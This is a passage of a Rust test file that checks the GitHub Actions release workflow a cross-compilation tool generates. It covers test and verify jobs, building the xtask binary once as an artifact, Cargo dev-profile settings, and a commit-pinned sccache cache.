    assert!(!plain.contains("secrets.CROSSDOCK_"), "{plain}");
}

/// Issue 24 §6: `test = true` (per target, or in `[dist]` for every target without its own)
/// puts a test step before `dist` in the build job, run for the targets whose matrix entry
/// says `test`; without it the workflow has no such step.
#[test]
fn test_true_runs_the_targets_tests_before_dist_in_its_build_job() {
    let two = "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\ntest = true\n[[target]]\ntriple = \"aarch64-apple-darwin\"\n";
    let c = config(two);
    let w = render_workflow(&c);
    let test = w
        .find("- name: Test (test = true in targets.toml)")
        .expect("a test step");
    let dist = w.find("- name: Build, check and archive").unwrap();
    assert!(test < dist, "{w}");
    assert!(
        w[test..dist].contains("if: matrix.test\n")
            && w[test..dist].contains(
                "run: xtask test --target \"$TARGET\" ${PACKAGE:+--package \"$PACKAGE\"}"
            ),
        "{}",
        &w[test..dist]
    );
    let m = crate::ship::github::matrix(&c, &[]);
    assert_eq!(
        m.include.iter().map(|e| e.test).collect::<Vec<_>>(),
        [true, false]
    );
    // [dist]'s test reaches every target without its own.
    let c = config(&format!(
        "[dist]\ntest = true\n{}",
        two.replace("test = true\n", "test = false\n")
    ));
    let m = crate::ship::github::matrix(&c, &[]);
    assert_eq!(
        m.include.iter().map(|e| e.test).collect::<Vec<_>>(),
        [false, true]
    );
    let plain = render_workflow(&config(
        "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n",
    ));
    assert!(!plain.contains("xtask test"), "{plain}");
}

/// Issue 24 §1: with `verify = true` the workflow gets a `verify` job that rebuilds the first
/// target native to its runner from the merged dist/, and publish waits for it; without
/// it, neither the job nor the `needs` appear. A matrix with no such target is refused.
#[test]
fn verify_adds_a_job_that_rebuilds_a_native_target_before_publishing() {
    let targets = "[[target]]\ntriple = \"aarch64-unknown-linux-gnu\"\n\n[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n";
    let with = render_workflow(&config(&format!("[dist]\nverify = true\n{targets}")));
    let job = &with[with.find("\n  verify:\n").expect("a verify job")..];
    let job = &job[..job.find("\n  attest:").unwrap()];
    assert!(job.contains("needs: [plan, merge]"), "{job}");
    assert!(job.contains("runs-on: ubuntu-latest"), "{job}");
    // Issue 25 §1: on the plan job's runner the rebuild's engine is the plan job's xtask.
    assert!(
        job.contains("run: xtask verify dist --target x86_64-unknown-linux-gnu"),
        "{job}"
    );
    assert!(
        job.contains("          name: xtask\n          path: ${{ runner.temp }}/xtask\n")
            && job.contains("chmod +x \"$RUNNER_TEMP/xtask/xtask\"")
            && !job.contains("cargo xtask"),
        "{job}"
    );
    assert!(!job.contains("secrets."), "{job}");
    // On another runner the binary cannot run: `cargo xtask` compiles it there.
    let mac = render_workflow(&config(
        "[dist]\nverify = true\n[[target]]\ntriple = \"aarch64-apple-darwin\"\n",
    ));
    let mac_job = &mac[mac.find("\n  verify:\n").expect("a verify job")..];
    let mac_job = &mac_job[..mac_job.find("\n  attest:").unwrap()];
    assert!(mac_job.contains("runs-on: macos-latest"), "{mac_job}");
    assert!(
        mac_job.contains("run: cargo xtask verify dist --target aarch64-apple-darwin")
            && !mac_job.contains("name: xtask\n"),
        "{mac_job}"
    );
    assert!(
        with.contains("needs: [plan, merge, attest, verify]"),
        "{with}"
    );
    let without = render_workflow(&config(targets));
    assert!(
        !without.contains("\n  verify:") && !without.contains("xtask verify"),
        "{without}"
    );
    assert!(
        without.contains("needs: [plan, merge, attest]\n"),
        "{without}"
    );

    let cross_only =
        config("[dist]\nverify = true\n[[target]]\ntriple = \"aarch64-unknown-linux-gnu\"\n");
    let e = render::check_verify(&cross_only).unwrap_err().to_string();
    assert!(
        e.contains("verify = true") && e.contains("drop `verify`"),
        "{e}"
    );
    assert!(render::check_verify(&config(targets)).is_ok());
}

/// Issue 25 §1: init optimizes the xtask's compressors and hashes in the dev profile, once,
/// never over a setting of the user's own (a crate's table, or `"*"` for every dependency).
#[test]
fn compressors_are_optimized_in_dev_without_overriding_the_users_settings() {
    let (text, added) = add_fast_dev_packages("Cargo.toml", "[package]\nname = \"a\"\n")
        .unwrap()
        .unwrap();
    assert_eq!(added, FAST_IN_DEV);
    let t: toml::Table = text.parse().unwrap();
    for name in FAST_IN_DEV {
        assert_eq!(
            t["profile"]["dev"]["package"][*name]["opt-level"].as_integer(),
            Some(3),
            "{text}"
        );
    }
    assert!(
        text.contains("\n[profile.dev.package.zlib-rs]\nopt-level = 3\n"),
        "{text}"
    );
    assert_eq!(add_fast_dev_packages("Cargo.toml", &text).unwrap(), None);
    // The user's own choice for one crate stays; the others are added.
    let own = "[package]\nname = \"a\"\n\n[profile.dev.package.sha2] # mine\nopt-level = 1\n";
    let (text, added) = add_fast_dev_packages("Cargo.toml", own).unwrap().unwrap();
    assert!(!added.contains(&"sha2".to_string()), "{added:?}");
    assert!(text.starts_with(own), "{text}");
    let t: toml::Table = text.parse().unwrap();
    assert_eq!(
        t["profile"]["dev"]["package"]["sha2"]["opt-level"].as_integer(),
        Some(1)
    );
    // A setting for every dependency is the user's: nothing is added.
    let all = "[package]\nname = \"a\"\n\n[profile.dev.package.\"*\"]\nopt-level = 2\n";
    assert_eq!(add_fast_dev_packages("Cargo.toml", all).unwrap(), None);
}

/// Issue 25 §1: the xtask is compiled once, in the plan job, and kept as an artifact; the
/// build jobs on the plan job's runner and the merge job download it, make it executable and
/// run it without compiling; a build job on another runner gets a wrapper of `cargo xtask`.
#[test]
fn the_xtask_is_built_once_and_handed_to_the_jobs() {
    let w = render_workflow(&config(
        "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\n[[target]]\ntriple = \"aarch64-apple-darwin\"\n",
    ));
    // A job (or the comment above it) starts two spaces in.
    let next_job = |l: &str| l.starts_with("  ") && !l[2..].starts_with(' ');
    let job = |name: &str| -> String {
        let start = format!("  {name}:");
        w.lines()
            .skip_while(|l| *l != start)
            .enumerate()
            .take_while(|(i, l)| *i == 0 || !next_job(l))
            .map(|(_, l)| format!("{l}\n"))
            .collect()
    };
    let plan = job("plan");
    let build = job("build");
    let merge = job("merge");
    assert_eq!(w.matches("cargo build --package xtask").count(), 1, "{w}");
    assert!(
        plan.contains("run: |\n          cargo build --package xtask --quiet\n"),
        "{plan}"
    );
    assert!(
        plan.contains("strip --strip-debug -o \"$RUNNER_TEMP/xtask/xtask\" target/debug/xtask\n"),
        "{plan}"
    );
    assert!(
        plan.contains("          name: xtask\n          path: ${{ runner.temp }}/xtask/xtask\n          if-no-files-found: error"),
        "{plan}"
    );
    for (job, text) in [("build", &build), ("merge", &merge)] {
        assert!(
            text.contains("          name: xtask\n          path: ${{ runner.temp }}/xtask\n"),
            "{job}: {text}"
        );
        assert!(
            text.contains("chmod +x \"$RUNNER_TEMP/xtask/xtask\""),
            "{job}: {text}"
        );
        assert!(
            text.contains("echo \"$RUNNER_TEMP/xtask\" >> \"$GITHUB_PATH\""),
            "{job}: {text}"
        );
    }
    // The only `cargo xtask` left in build is the wrapper's, for runners that cannot run the
    // binary (named in its step); merge runs on ubuntu-latest and has none.
    assert_eq!(build.matches("cargo xtask").count(), 2, "{build}");
    assert!(!merge.contains("cargo xtask"), "{merge}");
    // Merge compiles nothing: no cargo cache to restore or save (plan keeps the xtask's).
    assert!(!merge.contains("actions/cache"), "{merge}");
    assert_eq!(w.matches("key: crossdock-xtask-").count(), 2, "{w}");
    assert!(plan.contains("actions/cache/restore@") && plan.contains("actions/cache/save@"));
    assert!(
        build.contains("        if: matrix.runner == 'ubuntu-latest'\n        uses: actions/download-artifact@"),
        "{build}"
    );
    assert!(build.contains("run: xtask dist --target"), "{build}");
    assert!(
        merge.contains("run: xtask merge dist-* --out-dir dist"),
        "{merge}"
    );
    // The plan job itself runs on the runner the binary is handed to.
    assert!(plan.contains("runs-on: ubuntu-latest"), "{plan}");
}

/// Issue 25 §3: with `cache` "auto" (the default) or "sccache", each build job installs
/// sccache (the action pinned by commit, sccache by the version .ci/run tests with) and its
/// build and test steps point it at the Actions cache, which every runner shares; the verify
/// job rebuilds without it. `cache = "none"` leaves all of it out.
#[test]
fn the_build_jobs_share_one_sccache_in_the_actions_cache_unless_cache_is_none() {
    let targets = "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\ntest = true\n";
    let ci_run =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../.ci/run")).unwrap();
    assert!(
        ci_run.contains(&format!("sccache=={}", render::SCCACHE_VERSION)),
        "the workflow's sccache is the one .ci/run installs for the tests"
    );
    for mode in ["auto", "sccache"] {
        let dist = format!("[dist]\ncache = \"{mode}\"\nverify = true\n");
        let w = render_workflow(&config(&format!("{dist}{targets}")));
        let step = w
            .find("- name: Install sccache (the compiler cache the runners share)")
            .expect("an sccache step");
        let (test, build) = (
            w.find("- name: Test (test = true").unwrap(),
            w.find("- name: Build, check and archive").unwrap(),
        );
        assert!(step < test && test < build, "{w}");
        let install = &w[step..test];
        assert!(
            install.contains("if: matrix.builder != 'cross'\n"),
            "{install}"
        );
        let uses = install
            .lines()
            .find_map(|l| {
                l.trim()
                    .strip_prefix("uses: mozilla-actions/sccache-action@")
            })
            .expect("the sccache action");
        let sha = uses.split(' ').next().unwrap();
        assert!(
            sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()),
            "pinned by commit: {uses}"
        );
        assert!(
            install.contains(&format!("version: v{}\n", render::SCCACHE_VERSION)),
            "{install}"
        );
        assert!(
            w[step - 500..step].contains(&format!("# cache = \"{mode}\" in targets.toml")),
            "{w}"
        );
        let build_step = &w[build..w[build..].find("run: ").unwrap() + build];
        for s in [&w[test..build], build_step] {
            assert!(
                s.contains("\n          SCCACHE_GHA_ENABLED: \"true\"\n"),
                "{s}"
            );
            // Written by dry runs only, as the cargo caches are saved.
            assert!(
                s.contains("\n          SCCACHE_GHA_RW_MODE: ${{ needs.plan.outputs.dry-run == 'true' && 'READ_WRITE' || 'READ_ONLY' }}\n"),
                "{s}"
            );
        }
        let verify = &w[w.find("\n  verify:\n").unwrap()..];
        let verify = &verify[..verify.find("\n  attest:").unwrap()];
        assert!(
            !verify.contains("sccache") && !verify.contains("SCCACHE"),
            "{verify}"
        );
    }
    let none = render_workflow(&config(&format!("[dist]\ncache = \"none\"\n{targets}")));
    assert!(
        !none.contains("sccache") && !none.contains("SCCACHE"),
        "{none}"
    );
}
